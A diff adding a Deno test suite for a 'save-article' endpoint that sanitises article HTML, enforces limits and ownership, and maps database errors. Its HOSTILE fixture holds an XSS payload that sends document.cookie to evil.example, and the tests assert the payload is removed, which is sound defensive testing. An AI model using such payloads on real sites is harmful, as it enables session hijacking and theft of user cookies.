@@ -1,0 +1,334 @@
+import assert from "node:assert/strict";
+import { UnauthenticatedError } from "../_shared/platform/user_auth.ts";
+import type { SavedArticleRow } from "../_shared/schemas/article_save.ts";
+import {
+  type ArticleFields,
+  type ArticleSave,
+  type ArticleStore,
+  ArticleWriteError,
+  createArticleStore,
+} from "./article_store.ts";
+import { createHandler, MAX_BODY_BYTES } from "./handler.ts";
+import { createClient } from "@supabase/supabase-js";
+import type { Database } from "../_shared/database.types.ts";
+import { withCapturedErrors } from "../_testing/captured_errors.ts";
+
+const ALICE = "00000000-0000-4000-8000-00000000000a";
+const BOB = "00000000-0000-4000-8000-00000000000b";
+const ASSISTANT = "3f2b8c1e-2d4a-4b6c-8e9f-0a1b2c3d4e5f";
+
+/**
+ * Rows by id with their owner, as the table holds them, and every save the
+ * store was asked for; ownership as save_article() applies it.
+ */
+function memoryStore(refuse?: ArticleWriteError) {
+  const rows = new Map<string, SavedArticleRow & { user_id: string }>();
+  const saves: ArticleSave[] = [];
+  const store: ArticleStore = {
+    save(userId, save) {
+      if (refuse) return Promise.reject(refuse);
+      saves.push(save);
+      if (!save.id) {
+        const row = { ...toRow(crypto.randomUUID(), save.fields), user_id: userId };
+        rows.set(row.id, row);
+        return Promise.resolve(row);
+      }
+      const existing = rows.get(save.id);
+      if (!existing || existing.user_id !== userId) return Promise.resolve(null);
+      const row = { ...existing, ...toRow(save.id, { assistant_id: existing.assistant_id, ...save.fields }) };
+      rows.set(save.id, row);
+      return Promise.resolve(row);
+    },
+  };
+  return { rows, saves, store };
+}
+
+function toRow(id: string, fields: ArticleFields): SavedArticleRow {
+  return {
+    id,
+    featured_image_url: null,
+    created_at: "2026-11-22T12:00:00Z",
+    assistant_id: null,
+    ...fields,
+  };
+}
+
+function harness(store: ArticleStore) {
+  const handler = createHandler({
+    authenticate: (req) => {
+      const user = req.headers.get("x-test-user");
+      return user ? Promise.resolve({ id: user }) : Promise.reject(new UnauthenticatedError());
+    },
+    store,
+  });
+  return async (body: unknown, user: string | null = ALICE, raw?: string) => {
+    const headers = new Headers({ "content-type": "application/json" });
+    if (user) headers.set("x-test-user", user);
+    const response = await handler(
+      new Request("http://localhost/functions/v1/save-article", {
+        method: "POST",
+        headers,
+        body: raw ?? JSON.stringify(body),
+      }),
+    );
+    return { status: response.status, body: await response.json() };
+  };
+}
+
+const article = (overrides: Record<string, unknown> = {}) => ({
+  title: "Ten tips",
+  content: "<p>Write well.</p>",
+  excerpt: "Tips",
+  metaDescription: "Meta",
+  focusKeyword: "tips",
+  slug: "ten-tips",
+  categories: ["News"],
+  tags: ["a", "b"],
+  ...overrides,
+});
+
+const HOSTILE = '<p>Hi</p><script>fetch("https://evil.example/?c="+document.cookie)</script>' +
+  '<img src="x" onerror="alert(1)"><a href="javascript:alert(1)">x</a><iframe src="https://evil.example"></iframe>';
+
+Deno.test("save-article: a new draft is stored with its content sanitised, and the row comes back", async () => {
+  const { rows, store } = memoryStore();
+  const call = harness(store);
+  const { status, body } = await call(article({ content: HOSTILE, assistantId: ASSISTANT, tags: [" a ", "", "a", "b"] }));
+  assert.equal(status, 200, JSON.stringify(body));
+  assert.equal(body.article.content, '<p>Hi</p><img src="x" /><a>x</a>');
+  const stored = rows.get(body.article.id)!;
+  assert.equal(stored.user_id, ALICE);
+  assert.equal(stored.content, '<p>Hi</p><img src="x" /><a>x</a>');
+  assert.deepEqual(
+    [stored.status, stored.assistant_id, stored.tags, stored.scheduled_for, stored.scheduled_site_ids],
+    ["draft", ASSISTANT, ["a", "b"], null, []],
+  );
+});
+
+Deno.test("save-article: an update sanitises too, keeps the schedule only when scheduled, and stays the owner's", async () => {
+  const { rows, store } = memoryStore();
+  const call = harness(store);
+  const { body: created } = await call(article());
+  const id = created.article.id;
+  const site = "50000000-0000-4000-8000-000000000001";
+  const scheduled = await call(article({
+    id,
+    content: `<p>New</p>${HOSTILE}`,
+    status: "scheduled",
+    scheduledFor: "2030-01-01T10:00:00+02:00",
+    scheduledSiteIds: [site],
+    metaDescription: "",
+  }));
+  assert.equal(scheduled.status, 200, JSON.stringify(scheduled.body));
+  assert.equal(rows.get(id)!.content, '<p>New</p><p>Hi</p><img src="x" /><a>x</a>');
+  assert.deepEqual(
+    [rows.get(id)!.scheduled_for, rows.get(id)!.scheduled_site_ids, rows.get(id)!.meta_description],
+    ["2030-01-01T08:00:00.000Z", [site], null],
+  );
+  const drafted = await call(article({ id, status: "draft", scheduledFor: "2030-01-01T10:00:00Z", scheduledSiteIds: [site] }));
+  assert.equal(drafted.status, 200);
+  assert.deepEqual([rows.get(id)!.scheduled_for, rows.get(id)!.scheduled_site_ids], [null, []]);
+
+  const bobs = await call(article({ id, title: "Mallory" }), BOB);
+  assert.deepEqual(bobs, { status: 404, body: { error: "Article not found", field: "id" } });
+  assert.equal(rows.get(id)!.title, "Ten tips");
+});
+
+Deno.test("save-article: every size limit is refused with the form's message", async () => {
+  const { rows, store } = memoryStore();
+  const call = harness(store);
+  const cases: [Record<string, unknown>, string][] = [
+    [{ title: "t".repeat(501) }, "title: Title must be at most 500 characters"],
+    [{ content: "c".repeat(250_001) }, "content: Content must be at most 250,000 characters"],
+    [{ excerpt: "e".repeat(2_001) }, "excerpt: Excerpt must be at most 2,000 characters"],
+    [{ metaDescription: "m".repeat(321) }, "metaDescription: Meta description must be at most 320 characters"],
+    [{ focusKeyword: "k".repeat(101) }, "focusKeyword: Focus keyword must be at most 100 characters"],
+    [{ slug: "s".repeat(201) }, "slug: Slug must be at most 200 characters"],
+    [{ categories: ["c".repeat(101)] }, "categories.0: Each category must be at most 100 characters"],
+    [{ categories: Array.from({ length: 21 }, (_, i) => `c${i}`) }, "categories: Use at most 20 categories"],
+    [{ tags: ["t".repeat(101)] }, "tags.0: Each tag must be at most 100 characters"],
+    [{ tags: Array.from({ length: 51 }, (_, i) => `t${i}`) }, "tags: Use at most 50 tags"],
+    [{ title: "  " }, "title: Title is required"],
+    [{ content: "" }, "content: Content is required"],
+    [{ excerpt: " " }, "excerpt: Excerpt is required"],
+    [{ status: "published" }, "status: New articles are saved as drafts"],
+    [{ id: crypto.randomUUID(), status: "scheduled" }, "scheduledFor: Please set a scheduled date"],
+    [{ assistantId: "not-a-uuid" }, "assistantId: Please select an assistant"],
+  ];
+  for (const [fields, message] of cases) {
+    const { status, body } = await call(article(fields));
+    assert.equal(status, 400, message);
+    assert.equal(body.error, message);
+  }
+  const atLimits = await call(article({
+    title: "t".repeat(500),
+    content: `<p>${"c".repeat(249_993)}</p>`,
+    excerpt: "e".repeat(2_000),
+    metaDescription: "m".repeat(320),
+    focusKeyword: "k".repeat(100),
+    slug: "s".repeat(200),
+    categories: Array.from({ length: 20 }, (_, i) => `${i}`.padEnd(100, "c")),
+    tags: Array.from({ length: 50 }, (_, i) => `${i}`.padEnd(100, "t")),
+  }));
+  assert.equal(atLimits.status, 200, "everything at its limit is accepted");
+  assert.equal(rows.size, 1);
+});
+
+Deno.test("save-article: content that is only unsafe HTML is refused, not stored empty", async () => {
+  const { rows, store } = memoryStore();
+  const { status, body } = await harness(store)(article({ content: "<script>alert(1)</script><style>*{}</style>" }));
+  assert.equal(status, 400);
+  assert.equal(
+    body.error,
+    "content: Content has nothing left once unsafe HTML (scripts, event handlers) is removed",
+  );
+  assert.equal(rows.size, 0);
+});
+
+Deno.test("save-article: a row the database refuses is a 400 naming the field, not a 500", async () => {
+  for (
+    const [constraint, code, error] of [
+      ["articles_assistant_id_user_id_fkey", "23503", "assistantId: Please select an assistant"],
+      ["articles_content_length", "23514", "content: Content must be at most 250,000 characters"],
+      ["articles_tags_limits", "23514", "tags: Use at most 50 tags"],
+      [
+        "articles_approved_before_scheduling",
+        "23514",
+        "status: Approve this draft before scheduling it (its batch asks for a review)",
+      ],
+    ]
+  ) {
+    const { store } = memoryStore(new ArticleWriteError(`violates constraint "${constraint}"`, code, constraint));
+    const response = await harness(store)(article());
+    assert.deepEqual([response.status, response.body.error], [400, error]);
+  }
+  const { store } = memoryStore(new ArticleWriteError("connection reset", undefined, undefined));
+  await withCapturedErrors(async (logs) => {
+    assert.deepEqual(await harness(store)(article()), { status: 500, body: { error: "Failed to save article" } });
+    assert.deepEqual(logs, ["[save-article] unexpected failure: connection reset"]);
+  });
+});
+
+Deno.test("save-article: not signed in 401; an oversized body 413 before it is read", async () => {
+  const { store } = memoryStore();
+  const call = harness(store);
+  assert.deepEqual(await call(article(), null), { status: 401, body: { error: "User not authenticated" } });
+  const huge = await call(null, ALICE, JSON.stringify(article({ content: "x".repeat(MAX_BODY_BYTES) })));
+  assert.equal(huge.status, 413);
+});
+
+Deno.test("save-article: a restore names its revision, needs a saved article, and a revision of another is a 400", async () => {
+  const { rows, saves, store } = memoryStore();
+  const call = harness(store);
+  const { body: created } = await call(article());
+  const id = created.article.id;
+  assert.equal((await call(article({ id, title: "Restored", restoredFrom: 41 }))).status, 200);
+  assert.deepEqual([saves.at(-1)!.restoredFrom, saves.at(-1)!.generatedDraft, rows.get(id)!.title], [41, undefined, "Restored"]);
+
+  const refusals: [Record<string, unknown>, string][] = [
+    [{ restoredFrom: 41 }, "restoredFrom: Only a saved article can be restored"],
+    [{ id, restoredFrom: "41" }, "restoredFrom: Revision not found"],
+    [{ id, restoredFrom: 0 }, "restoredFrom: Revision not found"],
+    [{ id, restoredFrom: 1.5 }, "restoredFrom: Revision not found"],
+    [{ id, restoredFrom: 41, generatedDraft: { title: "AI", content: "<p>AI</p>" } }, "generatedDraft: A restore cannot follow an AI draft"],
+  ];
+  for (const [fields, message] of refusals) {
+    const { status, body } = await call(article(fields));
+    assert.deepEqual([status, body.error], [400, message]);
+  }
+  assert.equal(saves.length, 2, "nothing refused reached the store");
+
+  const { store: refusing } = memoryStore(
+    new ArticleWriteError(
+      'insert or update on table "article_revisions" violates foreign key constraint "article_revisions_restored_from_fkey"',
+      "23503",
+      "article_revisions_restored_from_fkey",
+    ),
+  );
+  const foreign = await harness(refusing)(article({ id, restoredFrom: 7 }));
+  assert.deepEqual([foreign.status, foreign.body.error], [400, "restoredFrom: Revision not found"]);
+});
+
+Deno.test("save-article: the AI draft a save follows is passed on sanitised, with its fields as the row's", async () => {
+  const { saves, store } = memoryStore();
+  const call = harness(store);
+  const draft = {
+    title: " AI title ",
+    content: HOSTILE,
+    excerpt: "",
+    metaDescription: "",
+    focusKeyword: "tips",
+    slug: "",
+    categories: ["News", "News", " "],
+    tags: [" a ", "b"],
+  };
+  assert.equal((await call(article({ generatedDraft: draft }))).status, 200);
+  assert.deepEqual(saves[0].generatedDraft, {
+    title: "AI title",
+    content: '<p>Hi</p><img src="x" /><a>x</a>',
+    excerpt: "",
+    meta_description: null,
+    focus_keyword: "tips",
+    slug: null,
+    categories: ["News"],
+    tags: ["a", "b"],
+  });
+  assert.equal((await call(article({ generatedDraft: { title: "Only minimum", content: "<p>c</p>" } }))).status, 200);
+  assert.deepEqual(saves[1].generatedDraft?.categories, []);
+
+  assert.equal((await call(article({ generatedDraft: { title: "Unsafe", content: "<script>alert(1)</script>" } }))).status, 200);
+  assert.equal(saves[2].generatedDraft, undefined, "a draft with nothing left once sanitised is not kept");
+
+  const tooLong = await call(article({ generatedDraft: { title: "t".repeat(501), content: "<p>c</p>" } }));
+  assert.deepEqual([tooLong.status, tooLong.body.error], [400, "generatedDraft.title: Title must be at most 500 characters"]);
+  assert.equal(saves.length, 3);
+});
+
+Deno.test("createArticleStore: one call to save_article() with the caller's id; constraint named on errors", async () => {
+  const seen: { method: string; url: URL; body: unknown }[] = [];
+  let answer = () => Response.json({ id: "a1" });
+  const client = createClient<Database>("https://project.test", "sb_secret_test", {
+    auth: { persistSession: false, autoRefreshToken: false },
+    global: {
+      fetch: async (input, init) => {
+        const request = new Request(input, init);
+        seen.push({ method: request.method, url: new URL(request.url), body: await request.json().catch(() => null) });
+        return answer();
+      },
+    },
+  });
+  const store = createArticleStore(client);
+  const writable: ArticleFields = {
+    title: "T",
+    content: "<p>c</p>",
+    excerpt: "",
+    status: "draft",
+    meta_description: null,
+    focus_keyword: null,
+    slug: null,
+    categories: [],
+    tags: [],
+    scheduled_for: null,
+    scheduled_site_ids: [],
+  };
+  assert.deepEqual(await store.save(ALICE, { fields: writable }), { id: "a1" });
+  assert.deepEqual([seen[0].method, seen[0].url.pathname], ["POST", "/rest/v1/rpc/save_article"]);
+  assert.deepEqual(seen[0].body, { p_user_id: ALICE, p_article: writable });
+
+  answer = () => Response.json(null);
+  const draft = { ...writable, title: "AI" } as const;
+  const { status: _status, scheduled_for: _at, scheduled_site_ids: _sites, ...draftText } = draft;
+  assert.equal(await store.save(BOB, { id: "a1", fields: writable, generatedDraft: draftText }), null);
+  assert.deepEqual(seen[1].body, { p_user_id: BOB, p_article: writable, p_article_id: "a1", p_generated_draft: draftText });
+  await store.save(BOB, { id: "a1", fields: writable, restoredFrom: 12 });
+  assert.deepEqual(seen[2].body, { p_user_id: BOB, p_article: writable, p_article_id: "a1", p_restored_from: 12 });
+
+  answer = () =>
+    Response.json({
+      code: "23514",
+      message: 'new row for relation "articles" violates check constraint "articles_slug_length"',
+    }, { status: 400 });
+  const error = await store.save(ALICE, { fields: writable }).catch((e) => e);
+  assert.ok(error instanceof ArticleWriteError);
+  assert.deepEqual([error.code, error.constraint], ["23514", "articles_slug_length"]);
+});
